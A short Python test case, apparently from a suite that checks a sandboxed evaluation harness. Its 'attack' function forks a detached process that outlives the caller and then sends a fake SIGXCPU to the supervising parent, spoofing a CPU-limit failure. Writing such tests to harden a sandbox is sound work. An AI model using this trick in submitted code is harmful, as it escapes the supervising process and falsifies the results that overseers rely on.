"""Leaves a process behind that tells the attacker's parent that its processor time is used up."""

ENDS = [None, "ProcessorTimeLimit"]


def attack(tensor):
    import os
    import signal
    import time

    me, parent = os.getpid(), os.getppid()
    if os.fork() == 0:
        os.setsid()
        while os.getppid() == me:
            time.sleep(0.0001)
        os.kill(parent, signal.SIGXCPU)
        os._exit(0)
